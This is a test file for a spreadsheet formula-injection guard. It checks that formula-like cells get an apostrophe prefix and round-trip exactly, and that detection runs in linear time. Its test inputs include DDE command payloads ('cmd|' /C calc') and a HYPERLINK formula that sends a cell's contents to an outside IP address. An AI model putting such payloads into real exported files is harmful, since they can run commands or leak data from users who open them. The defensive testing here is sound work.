/** @file Cells that a spreadsheet would run, cells that it would not, and texts that come back exactly. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { beginsLikeFormula, guardCell, unguardCell } from '../../../src-main/text/formulaGuard.ts';

describe('a text that a spreadsheet could run', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.7/?x="&A1,"ok")',
    '=1+1',
    '+1+1',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '- Puls 72',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\tcmd',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '\uFEFF=1+1',
    '\u200B\u200E=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
  ])('gets an apostrophe: %j', (text) => {
    expect(beginsLikeFormula(text)).toBe(true);
    expect(guardCell(text)).toBe(`'${text}`);
    expect(unguardCell(guardCell(text))).toBe(text);
  });

  it.each([
    '',
    'Puls 72 =',
    '[PATIENT-1] kam',
    '  Puls',
    '(=1)',
    '1=1',
    '"=1+1"',
    '|cmd',
    '%0A=1',
    '患者＝1',
    ' \n\n ',
    '−1 (a minus sign that no spreadsheet knows)',
  ])('is none of these: %j', (text) => {
    expect(beginsLikeFormula(text)).toBe(false);
    expect(guardCell(text)).toBe(text);
    expect(unguardCell(text)).toBe(text);
  });

  it('is told from one that has an apostrophe of its own', () => {
    for (const text of ["'", "''", "'=1+1", "'s morgens"]) {
      expect(guardCell(text)).toBe(`'${text}`);
      expect(unguardCell(guardCell(text))).toBe(text);
    }
  });

  it('comes back exactly, whatever it is, and is never one in its cell', () => {
    const piece = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\uFEFF', 'x', '＝');
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(piece).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (given) => {
        expect(unguardCell(guardCell(given))).toBe(given);
        expect(beginsLikeFormula(guardCell(given))).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('is looked at in linear time', () => {
    const started = performance.now();
    expect(beginsLikeFormula(`${' \u200B'.repeat(200_000)}x`)).toBe(false);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
